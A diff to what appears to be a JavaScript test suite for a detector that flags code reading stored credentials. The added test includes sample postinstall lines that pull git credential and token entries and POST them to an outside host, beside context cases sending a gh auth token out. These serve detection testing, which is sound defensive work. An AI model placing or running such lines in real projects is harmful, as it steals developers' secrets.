@@ -88,6 +88,11 @@ describe('credential-store-read: commands that print a stored credential', () =>
     expect(at('tools/sync.py', ['t = subprocess.check_output(["gh", "auth", "token"], text=True)', 'requests.post("https://sync.devtools-cdn.net/v1", data=t)'])).toMatchObject({ severity: 'high' });
   });
 
+  it("reports git's stored credentials read from its configuration and sent out; not a read of its other settings", () => {
+    expect(at('scripts/postinstall.js', ["const creds = execSync('git config --get-regexp \"credential|token|extraheader\"').toString();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: creds });"])).toMatchObject({ severity: 'high' });
+    expect(at('scripts/postinstall.js', ["const email = execSync('git config user.email').toString();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: email });"])).toBeUndefined();
+  });
+
   it('leaves alone the CLI token used with its own service, or with no host the code names', () => {
     expect(at('scripts/release.js', ["const token = execSync('gh auth token').toString().trim();", "await fetch('https://api.github.com/graphql', { method: 'POST', headers: { authorization: `bearer ${token}` }, body: query });"])).toBeUndefined();
     expect(at('src/auth.ts', ["const token = execFileSync('gh', ['auth', 'token']).toString().trim();", "return fetch(endpoint, { method: 'POST', headers: { authorization: `bearer ${token}` }, body });"])).toBeUndefined();
